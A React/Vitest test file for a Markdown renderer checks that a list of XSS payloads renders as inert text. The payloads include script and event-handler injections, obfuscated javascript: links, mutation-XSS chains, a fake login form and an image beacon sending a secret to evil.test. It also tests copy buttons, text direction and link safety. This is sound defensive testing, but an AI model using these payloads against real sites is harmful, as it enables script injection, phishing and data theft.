import { render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it, vi } from "vitest";
import { Rendered as Markdown } from "./rendered";
import { safeHref } from "./safe-link";

const HOSTILE = [
  "<script>window.pwned = 1</script>",
  '<img src=x onerror="window.pwned=1">',
  "<svg onload=window.pwned=1>",
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">x</a>',
  "<style>body{display:none}</style>",
  "<form action=//evil.test><input name=password><button>Sign in</button></form>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
  "[x](javascript:window.pwned=1)",
  "[x](JaVaScRiPt:window.pwned=1)",
  "[x](java\nscript:window.pwned=1)",
  "[x](&#106;avascript:window.pwned=1)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox)",
  "[x]( javascript:window.pwned=1 'title')",
  "![x](https://evil.test/pixel.png?secret)",
  "![x](javascript:window.pwned=1)",
  "[![x](https://evil.test/a.png)](javascript:window.pwned=1)",
  '<https://evil.test/"onmouseover="window.pwned=1>',
  "[ref]: javascript:window.pwned=1\n\n[ref]",
  '```html"onload="window.pwned=1\n<script>window.pwned=1</script>\n```',
  "<details open ontoggle=window.pwned=1>",
  "<!--><img src=x onerror=window.pwned=1>-->",
];

const FORBIDDEN =
  "script, img, svg:not([class^='lucide']), iframe, style, form, input:not([disabled]), object, embed, base, link, meta, math, details, video, audio";

describe("Markdown", () => {
  it.each(HOSTILE)("shows %j as text", (payload) => {
    for (const streaming of [true, false]) {
      const { container, unmount } = render(<Markdown text={payload} streaming={streaming} />);
      expect(container.querySelectorAll(FORBIDDEN)).toHaveLength(0);
      for (const element of container.querySelectorAll("*")) {
        for (const name of element.getAttributeNames()) expect(name).not.toMatch(/^on/i);
      }
      for (const link of container.querySelectorAll("a")) {
        expect(link.getAttribute("href")).toMatch(/^(https?|mailto):/);
        expect(link.rel).toContain("noopener");
        expect(link.target).toBe("_blank");
      }
      expect("pwned" in window).toBe(false);
      unmount();
    }
  });

  it("is never markup at any point of the stream", () => {
    const payload = HOSTILE.join("\n\n");
    const { container, rerender } = render(<Markdown text="" streaming />);
    for (let end = 1; end <= payload.length; end += 7) {
      rerender(<Markdown text={payload.slice(0, end)} streaming />);
      expect(container.querySelectorAll(FORBIDDEN)).toHaveLength(0);
    }
  });

  it("keeps the words of raw HTML readable", () => {
    render(<Markdown text={"Use <b>bold</b> here"} />);
    expect(screen.getByText(/<b>bold<\/b>/)).toBeInTheDocument();
  });

  it("shows an image from elsewhere as a link", () => {
    render(<Markdown text="![a chart](https://example.org/chart.png)" />);
    expect(screen.getByRole("link", { name: "a chart" })).toHaveAttribute(
      "href",
      "https://example.org/chart.png",
    );
  });

  it("copies the code of a block, without the fence", async () => {
    const user = userEvent.setup();
    const write = vi.spyOn(navigator.clipboard, "writeText");
    render(<Markdown text={"```python\nprint('hi')\nprint('ho')\n```"} />);
    await user.click(screen.getByRole("button", { name: "Copy code" }));
    expect(write).toHaveBeenCalledWith("print('hi')\nprint('ho')");
    expect(await screen.findByRole("button", { name: "Copied" })).toBeInTheDocument();
  });

  it("colours code in a language that it knows", async () => {
    const { container } = render(<Markdown text={"```python\ndef f(): return 1\n```"} />);
    await waitFor(() => expect(container.querySelectorAll(".token").length).toBeGreaterThan(3), {
      timeout: 10_000,
    });
    expect(container.querySelector("code")).toHaveTextContent("def f(): return 1");
  });

  it("lets each block run in the direction of its own letters", () => {
    render(<Markdown text={"Hello there.\n\nمرحبا بك\n\nAnd on."} />);
    const of = (text: string | RegExp) =>
      screen.getByText(text).closest("[dir]")?.getAttribute("dir");
    expect(of("Hello there.")).toBe("ltr");
    expect(of(/مرحبا/)).toBe("rtl");
    expect(of("And on.")).toBe("ltr");
  });

  it("lets each paragraph of a text with footnotes run in its own direction", () => {
    render(<Markdown text={"Hello.[^1]\n\nمرحبا بك\n\n[^1]: A note."} />);
    expect(screen.getByText(/مرحبا/).closest("[dir]")).toHaveAttribute("dir", "rtl");
  });

  it("lets a list and a table run in the direction of their letters", () => {
    render(<Markdown text={"Hello.\n\n- عنصر أول\n- عنصر ثان\n\n| اسم |\n|---|\n| قيمة |"} />);
    for (const role of ["list", "table"]) {
      expect(screen.getByRole(role).closest("[dir]")).toHaveAttribute("dir", "rtl");
    }
  });

  it("keeps what stands there when a stream ends", () => {
    const text = "First.\n\n1. one\n2. two\n\nLast.";
    const { rerender } = render(<Markdown text={text} streaming />);
    const shown = screen.getAllByRole("listitem");
    rerender(<Markdown text={text} />);
    expect(screen.getAllByRole("listitem")).toEqual(shown);
    expect(screen.getAllByRole("listitem")[0]).toBe(shown[0]);
  });

  it("finds a link's definition in another block", () => {
    render(<Markdown text={"See [this][a].\n\nMore.\n\n[a]: https://example.org/a"} />);
    expect(screen.getByRole("link", { name: "this" })).toHaveAttribute(
      "href",
      "https://example.org/a",
    );
  });

  it("shows tables, lists and emphasis", () => {
    render(<Markdown text={"| a | b |\n|---|---|\n| 1 | 2 |\n\n- *one*\n- **two**"} />);
    expect(screen.getAllByRole("cell")).toHaveLength(2);
    expect(screen.getAllByRole("listitem")).toHaveLength(2);
    expect(screen.getByText("two").tagName).toBe("STRONG");
  });
});

describe("safeHref", () => {
  it("knows no relative address and no protocol that runs code", () => {
    for (const href of ["/api/me", "//x", "?a", "#a", "javascript:1", "data:,x", "blob:x", ""]) {
      expect(safeHref(href)).toBeNull();
    }
    expect(safeHref("mailto:a@b.c")).toBe("mailto:a@b.c");
  });
});
